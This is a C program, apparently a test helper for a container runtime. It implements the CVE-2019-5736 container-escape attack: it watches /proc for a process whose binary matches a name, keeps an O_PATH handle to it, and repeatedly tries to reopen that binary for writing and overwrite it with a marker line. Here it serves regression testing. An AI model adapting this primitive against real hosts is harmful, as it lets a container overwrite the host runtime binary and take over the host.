/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * overwrite FILE NAME: the attacker of CVE-2019-5736, as the first process of a container. Until
 * FILE appears it looks at /proc/PID/exe of every other process, keeps those whose target contains
 * NAME by O_PATH, and tries again and again to open them for writing and to write. It says
 * "looking" at the start, "found" when it has the first, and at the end "seen N opened N written
 * N".
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define KEPT_MAX 128

static int kept[KEPT_MAX], n_kept, opened, written;

static void
look_at (const char *pid, const char *name)
{
	char path[300], target[256] = "";
	int fd;

	snprintf (path, sizeof path, "/proc/%s/exe", pid);
	if (readlink (path, target, sizeof target - 1) < 0 || !strstr (target, name) ||
	    n_kept == KEPT_MAX)
		return;
	fd = open (path, O_PATH);
	if (fd < 0)
		return;
	if (n_kept == 0)
		printf ("found\n");
	kept[n_kept++] = fd;
}

static void
try_all (void)
{
	for (int i = 0; i < n_kept; i++) {
		char path[64];
		int fd;

		snprintf (path, sizeof path, "/proc/self/fd/%d", kept[i]);
		fd = open (path, O_WRONLY);
		if (fd < 0)
			continue;
		opened++;
		if (write (fd, "#!/overwritten\n", 15) > 0)
			written++;
		close (fd);
	}
}

int
main (int argc, char **argv)
{
	if (argc != 3)
		return 2;
	setvbuf (stdout, NULL, _IOLBF, 0);
	printf ("looking\n");
	while (access (argv[1], F_OK) < 0) {
		DIR *d = opendir ("/proc");

		for (struct dirent *de; d && (de = readdir (d)) != NULL;)
			if (isdigit ((unsigned char) de->d_name[0]) &&
			    strcmp (de->d_name, "1") != 0)
				look_at (de->d_name, argv[2]);
		if (d)
			closedir (d);
		try_all ();
	}
	try_all ();
	printf ("seen %d opened %d written %d\n", n_kept, opened, written);
	return 0;
}
